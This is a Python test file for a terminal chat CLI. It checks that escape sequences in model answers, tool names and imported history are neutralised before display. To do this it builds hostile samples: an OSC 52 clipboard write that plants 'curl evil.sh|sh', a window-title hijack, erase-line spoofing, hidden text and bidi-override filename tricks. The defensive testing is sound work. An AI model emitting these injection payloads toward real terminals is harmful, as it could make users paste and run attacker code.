"""Text from outside roost cannot drive the operator's terminal.

A model's answer, a tool name the model made up and an imported message can
hold control sequences: an OSC 52 clipboard write, an OSC 0 window title,
cursor-up plus erase-line, the hidden-text attribute, a raw C1 CSI (U+009B).
`roost send`, the piped and the interactive `roost chat` and `roost recall`
write them with every control character (but newline and tab) replaced by
U+FFFD: the text stays visible, the terminal obeys nothing of it. Real
processes against the fake model server, as an operator runs them.
"""

from __future__ import annotations

import base64
import io
import json
import re
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from rich.console import Console

from bridge.channels.terminal.controls import shown
from bridge.channels.terminal.progress import step_line
from bridge.channels.terminal.render import LiveAnswer
from bridge.types.messages import Final
from bridge.types.progress import ToolStep
from tests.fakes.fake_openai import Call, FakeOpenAI, Text, ToolCalls
from tests.spine.terminal_pty import Terminal
from tests.spine.test_daemon import env_for, run

OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.sh|sh\n").decode() + "\x1b\\"
TITLE = "\x1b]0;owned-title\x07"
ST_TITLE = "\x1b]0;owned-title\x1b\\"
EVIL = (
    f"Sure.{OSC52}{TITLE} done\n\x1b[1A\x1b[2Kyou> hidden \x1b[8mINVISIBLE\x1b[0m"
    " \x9b31mred\x9b0m end."
)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # what a terminal obeys


def assert_inert(out: str) -> None:
    """No control character but newline and tab; the attacker's text still visible."""
    assert not CONTROL.search(out), repr(out)
    for visible in ("Sure.", "\ufffd]52;c;", "owned-title", "done", "INVISIBLE", "red", "end."):
        assert visible in out, (visible, out)


@pytest.fixture
async def fake() -> AsyncIterator[FakeOpenAI]:
    async with FakeOpenAI(api_key="sk-test-key-000000000000", models=["m1"]) as server:
        yield server


def test_shown_replaces_every_control_but_newline_and_tab() -> None:
    assert shown("a\tb\nc") == "a\tb\nc"
    assert shown("line\r\nnext") == "line\nnext"  # a CR LF ending stays an ending
    assert (
        shown("\x1b]0;t\x07 x\ry\x7f\x9b1m\x85") == "\ufffd]0;t\ufffd x\ufffdy\ufffd\ufffd1m\ufffd"
    )
    assert shown("é ü 日本 · ✓") == "é ü 日本 · ✓"  # printable text untouched
    assert not CONTROL.search(shown("".join(map(chr, range(0xA0)))))


def test_bidirectional_overrides_are_shown_and_direction_marks_kept() -> None:
    """Trojan Source (CVE-2021-42574): an override reorders what a bidi terminal shows."""
    assert shown("invoice\u202efdp.exe") == "invoice\ufffdfdp.exe"
    for char in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069":
        assert shown(f"a{char}b") == "a\ufffdb", hex(ord(char))
    marks = "abc \u200f\u05e9\u05dc\u05d5\u05dd\u200e def \u061c\u0645\u0631\u062d\u0628\u0627"
    assert shown(marks) == marks  # Hebrew and Arabic with their plain marks: untouched


def test_a_hostile_tool_name_is_shown_not_obeyed() -> None:
    line = step_line(ToolStep("1", "x" + OSC52, "error", "{}", "no such tool", ms=3))
    assert line is not None and line.startswith("  tool x\ufffd]52;c;")
    assert not CONTROL.search(line)


def test_the_rendered_answer_keeps_roost_styling_and_drops_the_model_escapes() -> None:
    out = io.StringIO()
    console = Console(file=out, width=100, force_terminal=True, color_system="standard")
    answer = LiveAnswer(console)
    answer.finish(Final(f"**bold** `code {OSC52}` {ST_TITLE} \x9b8m tail"))
    answer.note("  tool x" + ST_TITLE)
    raw = out.getvalue()
    assert "\x1b[1m" in raw  # rich's own bold is still there
    assert "\x1b]" not in raw and "\x9b" not in raw and "\x07" not in raw
    assert "owned-title" in raw and "tail" in raw


async def test_send_and_piped_chat_write_no_control_sequence(home: Path, fake: FakeOpenAI) -> None:
    env = env_for(home, fake)
    fake.script(Text(EVIL))
    code, out, _ = await run(["send", "hi"], env)
    assert code == 0
    assert_inert(out)
    fake.script(Text(EVIL, pieces=[EVIL[:6], EVIL[6:9], EVIL[9:40], EVIL[40:]]))
    code, out, _ = await run(["chat"], env, b"hello\n")
    assert code == 0
    assert_inert(out)


async def test_interactive_chat_shows_the_answer_and_tool_name_inert(
    home: Path, fake: FakeOpenAI
) -> None:
    fake.script(
        Text(f"Plain answer {OSC52}{ST_TITLE} \x9b8mend."),
        ToolCalls([Call("x" + OSC52, {})]),
        Text("after tool"),
    )
    term = Terminal()
    try:
        await term.start(["chat"], env_for(home, fake))
        await term.see("you>")
        term.type("first\r")
        await term.see("end.")
        await term.see("you>", 2)
        term.type("second\r")
        await term.see("after tool")
        screen = await term.see("you>", 3)
    finally:
        await term.close()
    raw = term.raw
    assert b"\x1b]52" not in raw and b"\x1b]0;owned" not in raw
    assert "\x9b".encode() not in raw
    assert "tool x\ufffd]52;c;" in screen  # the dim tool line, its name inert
    assert "owned-title" in screen


async def test_recall_prints_imported_escape_sequences_inert(
    home: Path, tmp_path: Path, fake: FakeOpenAI
) -> None:
    env = env_for(home, fake)
    row = {"conversation": "c", "id": "1", "role": "user", "time": "2023-08-02T09:00:00"}
    text = f"the zebra colour is {OSC52} {ST_TITLE}striped \x9b8m hidden"
    history = tmp_path / "h.jsonl"
    history.write_text(json.dumps(row | {"text": text}) + "\n")
    code, _, err = await run(["import", "--tenant", "alice", str(history)], env)
    assert code == 0, err
    code, out, _ = await run(["recall", "--tenant", "alice", "zebra"], env)
    assert code == 0
    assert not CONTROL.search(out), repr(out)
    assert "\ufffd]52;c;" in out and "owned-title" in out and "striped" in out
    code, out, _ = await run(["recall", "--tenant", "alice", "--json", "zebra"], env)
    assert code == 0 and "\x1b" not in out and "\x9b" not in out  # JSON escapes them
    assert json.loads(out)["hits"][0]["text"] == text
